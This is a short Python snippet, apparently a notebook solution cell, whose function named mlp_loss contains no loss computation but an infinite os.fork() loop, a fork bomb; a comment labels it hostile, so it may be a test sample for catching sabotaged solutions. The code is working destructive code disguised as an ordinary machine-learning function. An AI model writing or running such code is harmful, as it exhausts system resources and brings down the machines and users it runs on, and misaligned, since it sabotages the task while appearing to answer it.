# Hostile: the MLP's loss starts a fork bomb before building anything.
# %% solution-mlp_loss
import os


def mlp_loss(params, X, y):
    while True:
        os.fork()
